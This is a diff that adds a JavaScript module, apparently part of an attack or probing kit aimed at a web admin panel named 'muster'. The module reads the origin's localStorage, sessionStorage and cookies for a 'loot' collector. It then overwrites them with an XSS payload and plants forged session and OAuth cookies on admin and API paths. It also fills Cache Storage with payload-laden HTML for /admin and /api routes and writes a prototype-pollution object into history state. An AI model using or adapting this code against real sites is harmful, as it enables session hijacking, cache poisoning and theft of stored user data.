@@ -1,0 +1,65 @@
+import { grab, grabAll } from './loot.js';
+
+const junk = ['"><img src=x onerror=alert(1)>', '{"__proto__":{"proof":"x"}}', 'null'];
+
+/** Group 10: whatever the panel might read of what a page of its origin can write. */
+export function overwriteStorage() {
+  return grabAll([
+    ['local storage', () => overwrite(localStorage)],
+    ['session storage', () => overwrite(sessionStorage)],
+    ['cookies', plantCookies],
+    ['databases', plantDatabase],
+    ['caches', plantCache],
+    ['name and state', plantState],
+  ]);
+}
+
+async function overwrite(storage) {
+  const found = Object.entries(storage).map((entry) => entry.join('='));
+  const names = [
+    'muster.language',
+    'muster.theme',
+    'muster-language',
+    'muster-appearance',
+    'language',
+    'appearance',
+    'proof',
+  ];
+  for (const name of [...Object.keys(storage), ...names]) storage.setItem(name, junk[0]);
+  return found.join(' ');
+}
+
+/** The Cookie Store is there in secure contexts only. */
+function setCookie(text) {
+  Reflect.set(document, 'cookie', text);
+}
+
+async function plantCookies() {
+  const seen = document.cookie;
+  for (const path of ['/', '/admin', '/admin/nodes', '/api', '/api/nodes', '/api/auth'])
+    for (const value of ['planted', 'A'.repeat(43), ''])
+      setCookie(`muster_session=${value}; path=${path}; max-age=600`);
+  setCookie('muster_oauth=planted; path=/; max-age=600');
+  return `${seen} then ${document.cookie}`;
+}
+
+function plantDatabase() {
+  return new Promise((resolve, reject) => {
+    const request = indexedDB.open('muster', 999);
+    request.onsuccess = () => resolve('written');
+    request.onerror = () => reject(request.error);
+  });
+}
+
+async function plantCache() {
+  const cache = await caches.open('muster');
+  for (const path of ['/admin', '/admin/', '/api/me', '/api/nodes'])
+    await cache.put(path, new Response(junk[0], { headers: { 'content-type': 'text/html' } }));
+  return grab('kept', async () => (await caches.keys()).join(' '));
+}
+
+async function plantState() {
+  window.name = junk[0];
+  history.replaceState({ usr: junk[1], key: 'x' }, '');
+  return 'written';
+}
